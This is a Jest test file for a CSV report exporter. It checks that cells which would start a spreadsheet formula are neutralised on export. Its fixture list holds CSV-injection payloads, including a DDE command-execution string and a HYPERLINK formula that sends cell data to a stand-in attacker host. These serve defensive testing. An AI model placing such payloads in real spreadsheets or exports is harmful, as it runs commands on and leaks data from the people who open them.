import { describe, expect, it } from '@jest/globals';
import { readCsv } from '#testing/fixtures/csv';
import * as fc from '#testing/random/properties';
import { toCsv } from './report-csv.js';

/** Texts that a spreadsheet computes, also behind characters that it skips (OWASP, CSV injection). */
const FORMULAS = [
  '=1+1',
  '=cmd|" /C calc"!A0',
  '=HYPERLINK("https://evil.example?x="&A1,"x")',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '"=1+1"',
  '=1+1";=1+1',
];

describe('a report as CSV', () => {
  it.each(FORMULAS)('holds no cell that a spreadsheet would compute: %j', (formula) => {
    const [[cell = ''] = []] = readCsv(toCsv([[formula]]));
    expect(cell).not.toMatch(/^[=+\-@\t\r\n]/);
    expect(cell).toContain(formula.trim().slice(1));
  });

  it('says what was in it, row by row, whatever that was', () => {
    const cells = fc.oneof(
      fc.string({ unit: 'grapheme' }),
      fc.constantFrom(...FORMULAS, ',', '"', '\r\n', '""', ''),
    );
    fc.assert(
      fc.property(fc.array(fc.tuple(cells, cells, cells), { minLength: 1 }), (rows) => {
        const read = readCsv(toCsv(rows));
        expect(read.map((row) => row.length)).toEqual(rows.map(() => 3));
        for (const [index, row] of rows.entries())
          for (const [column, cell] of row.entries()) {
            const found = read[index]?.[column] ?? '';
            expect([cell, `'${cell}`]).toContain(found);
            expect(found).not.toMatch(/^[=+\-@\t\r\n]/);
          }
      }),
    );
  });

  it('leaves numbers as they are, also those below zero', () => {
    expect(readCsv(toCsv([[-1, 0.5, null]]))).toEqual([['-1', '0.5', '']]);
  });
});
